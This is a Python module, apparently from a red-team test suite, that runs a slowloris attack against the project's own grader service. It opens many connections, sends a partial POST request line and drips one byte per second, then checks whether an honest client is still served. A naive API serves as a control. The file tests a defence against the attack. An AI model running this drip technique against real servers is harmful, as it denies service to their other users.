"""Open many connections and send a byte now and then, so that nobody else gets an answer (slowloris)."""

import socket
import threading
import time
from collections.abc import Callable

import httpx

from red_team.frame import Outcome
from red_team.naive import naive_api
from red_team.scene import Scene
from socket_paths import short_path

AIM = "a grader that answers nobody"
DEFENCE = "a head and a body must arrive in time; connections are counted"

PATIENCE_S = 120.0
CONTROL_PATIENCE_S = 25.0


def attempt(scene: Scene) -> Outcome:
    def connect() -> socket.socket:
        client = socket.socket(socket.AF_UNIX)
        client.connect(short_path(scene.paths.grader_socket))
        return client

    def ask() -> int:
        with scene.client() as client:
            return client.get("/health").status_code

    return _under_slow_clients(connect, ask, 200, PATIENCE_S)


def control(scene: Scene) -> Outcome:
    with naive_api() as (client, _):
        address = client.base_url.host, client.base_url.port

        def ask() -> int:
            with httpx.Client(base_url=client.base_url, timeout=3) as second_client:
                return second_client.get("/health").status_code

        client.close()
        return _under_slow_clients(lambda: socket.create_connection(address), ask, 2, CONTROL_PATIENCE_S)


def _under_slow_clients(
    connect: Callable[[], socket.socket], ask: Callable[[], int], n: int, patience_s: float
) -> Outcome:
    """Whether an honest client goes without an answer for so long while n others are slow."""
    slow, is_over = [connect() for _ in range(n)], threading.Event()
    threading.Thread(target=_drip, args=(slow, is_over), daemon=True).start()
    started, last = time.monotonic(), ""
    try:
        while time.monotonic() - started < patience_s:
            try:
                status = ask()
            except (httpx.HTTPError, OSError) as error:
                last = type(error).__name__
                time.sleep(0.5)
                continue
            return Outcome(
                False, f"{n} slow clients; an honest one had its {status} in {time.monotonic() - started:.1f} s"
            )
        return Outcome(True, f"{n} slow clients; no answer in {patience_s:g} s ({last})")
    finally:
        is_over.set()
        for client in slow:
            client.close()


def _drip(clients: list[socket.socket], is_over: threading.Event) -> None:
    for client in clients:
        _send(client, b"POST /submit HTTP/1.1\r\n")
    while not is_over.wait(1.0):
        for client in clients:
            _send(client, b"X")


def _send(client: socket.socket, data: bytes) -> None:
    try:
        client.send(data)
    except OSError:
        return  # hung up on
